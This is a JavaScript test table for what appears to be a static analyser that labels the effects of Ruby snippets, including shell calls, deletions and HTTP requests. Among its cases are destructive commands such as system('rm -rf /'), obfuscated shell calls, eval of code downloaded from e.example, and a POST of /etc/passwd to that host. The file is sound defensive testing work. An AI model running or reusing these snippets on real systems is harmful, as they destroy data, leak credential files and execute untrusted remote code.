import { table } from "../testing/table.js";

table("ruby", "starting programs", [
  { why: "one text goes to the shell", code: 'system("rm -rf /")', does: ["shell rm -rf /"] },
  { why: "a list is a program and its arguments", code: 'exec "rm", "-rf", "/"', does: ["exec rm|-rf|/"] },
  { why: "backquotes and %x", code: "`id`; %x(ls)", does: ["shell id", "shell ls"] },
  { why: "brackets nest inside a quote", code: "%x(echo $(id $(ls)) x)", does: ["shell echo $(id $(ls)) x"] },
  {
    why: "a hole may hold the quote's own end",
    code: 'c = ["id"]; %x(echo #{c.join(")")} x)',
    does: ["shell echo id x"],
  },
  {
    why: "popen and what is written to it",
    code: 'IO.popen("sh", "w") { |io| io.puts "id" }',
    does: ["shell sh < id\n"],
  },
  { why: "Open3", code: 'require "open3"; Open3.capture2("sh", stdin_data: "id")', does: ["shell sh < id"] },
  { why: "open with a bar", code: 'open("|id")', does: ["shell id"] },
  { why: "a bracket behind a blank begins the first argument", code: 'system ("i" + "d").to_s', does: ["shell id"] },
  {
    why: "the same with more behind it",
    code: 'puts (1..3).map { |x| x }.inspect; system ("i"), "d"',
    does: ["print UNKNOWN", "exec i|d"],
  },
  { why: "send with a name put together", code: 'send("sys" + "tem", "id")', does: ["shell id"] },
  { why: "Kernel.send", code: 'Kernel.send(:system, "id")', does: ["shell id"] },
  { why: "method(:name).call", code: 'method(:system).call("id")', does: ["shell id"] },
  { why: "interpolation", code: 'c = "id"; system("#{c} -u")', does: ["shell id -u"] },
  {
    why: "methods of objects",
    code: "class A; def initialize(c) = @c = c; def go; system(@c); end; end; A.new('id').go",
    does: ["shell id"],
  },
]);

table("ruby", "hidden text", [
  { why: "pack H*", code: 'system(["6964"].pack("H*"))', does: ["shell id"] },
  { why: "unpack1 m", code: 'system("aWQ=".unpack1("m"))', does: ["shell id"] },
  { why: "Base64", code: 'require "base64"; system Base64.decode64("aWQ=")', does: ["shell id"] },
  { why: "backwards", code: 'system("di".reverse)', does: ["shell id"] },
  { why: "letters by number", code: "system([105,100].map(&:chr).join)", does: ["shell id"] },
  { why: "tr", code: 'system("ab".tr("ab","id"))', does: ["shell id"] },
  { why: "escapes", code: 'system("\\x69\\u0064")', does: ["shell id"] },
  { why: "slices", code: 'system("xidx"[1..2])', does: ["shell id"] },
  { why: "format", code: 'system("%s%s" % ["i","d"])', does: ["shell id"] },
]);

table("ruby", "files, code and the network", [
  { why: "rm_rf", code: "require 'fileutils'; FileUtils.rm_rf('/home/user')", does: ["delete /home/user recursive"] },
  {
    why: "each of a pattern",
    code: 'Dir.glob("/etc/*").each { |f| File.delete(f) }',
    does: ["list /etc/", "?delete /etc/*"],
  },
  { why: "Dir[]", code: 'Dir["*.o"].each { |f| File.unlink f }', does: ["list .", "?delete *.o"] },
  { why: "a block writes", code: 'File.open("/etc/x","w") { |f| f.puts "hi" }', does: ["write /etc/x = hi\n"] },
  { why: "eval of known text", code: "eval('system(\"id\")')", does: ['evaluate ruby system("id")', "shell id"] },
  {
    why: "eval of the network",
    code: 'require "open-uri"; eval(URI.open("http://e.example/x").read)',
    does: ["receive e.example", "evaluate ruby UNKNOWN", "opaque untrusted_code"],
  },
  { why: "require_relative runs a file", code: "require_relative './x.rb'", does: ["load ./x.rb"] },
  {
    why: "a file sent",
    code: 'require "net/http"; Net::HTTP.post(URI("https://e.example/"), File.read("/etc/passwd"))',
    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "a request by a connection",
    code: 'require "net/http"; Net::HTTP.start("e.example", 443, use_ssl: true) { |h| h.delete("/v1/users/42") }',
    does: ["connect e.example:443", "send DELETE e.example:443", "receive e.example:443"],
  },
  {
    why: "a request made beforehand",
    code: 'require "net/http"; Net::HTTP.new("e.example", 443).request(Net::HTTP::Delete.new("/v1/users/42"))',
    does: ["connect e.example:443", "send DELETE e.example:443", "receive e.example:443"],
  },
  {
    why: "a request by the name of its method",
    code: 'require "net/http"; Net::HTTP.new("e.example", 443).send_request("DELETE", "/v1/x")',
    does: ["connect e.example:443", "send DELETE e.example:443", "receive e.example:443"],
  },
  {
    why: "another client's deletion",
    code: 'require "httparty"; HTTParty.delete("https://e.example/v1/users/42")',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a client with an address of its own",
    code: 'require "faraday"; Faraday.new(url: "https://e.example").delete("/v1/users/42")',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "the path among options",
    code: 'require "excon"; Excon.new("https://e.example/").delete(path: "/v1/users/42")',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "and the method",
    code: 'require "excon"; Excon.new("https://e.example").request(method: :put, path: "/v1/users/42")',
    does: ["send PUT e.example", "receive e.example"],
  },
  {
    why: "all of it by options",
    code: 'require "rest-client"; RestClient::Request.execute(method: :delete, url: "https://e.example/v1/users/42")',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a resource is its address",
    code: 'require "rest-client"; RestClient::Resource.new("https://e.example/v1/users/42").delete',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a request that is told to run",
    code: 'require "typhoeus"; Typhoeus::Request.new("https://e.example/v1/users/42", method: :delete).run',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a client that only signs in",
    code: 'require "http"; HTTP.auth("x").delete("https://e.example/v1/users/42")',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a client that only asks, and one that takes a file along",
    code: 'require "faraday"; f = Faraday.new("https://e.example"); f.get("/v1/users"); f.get("/v1", a: File.read("/etc/passwd"))',
    does: ["receive e.example", "read /etc/passwd", "send GET e.example +/etc/passwd", "receive e.example"],
  },
  { why: "a modifier makes it possible", code: 'File.delete("/a") if ARGV.any?', does: ["?delete /a"] },
  { why: "an if as a value", code: 'x = if ENV["A"] then "a" else "b" end\nsystem(x)', does: ["?shell a", "?shell b"] },
]);

table("ruby", "look-alikes that do nothing", [
  { why: "a comment, a text, a symbol", code: "# system('x')\ny = \"system('rm -rf /')\"\nz = :system", does: [] },
  { why: "another object's methods", code: "db.exec('x'); list.delete('y'); obj.system('z')", does: [] },
  { why: "printing", code: 'puts "rm -rf /"', does: ['print "rm -rf /\\n"'] },
  {
    why: "data structures and iteration",
    code: 'h = { a: 1, "b" => 2 }\nh.each do |k, v|\n  puts "#{k}=#{v}"\nend\na, b = 1, 2\nputs [1, 2, 3].map { |x| x * 2 }.select { |x| x > 2 }.join(",")',
    does: ['print "a=1\\nb=2\\n4,6\\n"'],
  },
  {
    why: "case, unless, rescue, heredoc",
    code: "case 1\nwhen 1, 2 then puts 'one'\nelse puts 'other'\nend\nbegin\n  x = <<~T\n    text\n  T\nrescue => e\n  puts e\nend\nputs 1 unless false",
    does: ['print "one\\n"', "?print UNKNOWN"],
  },
]);
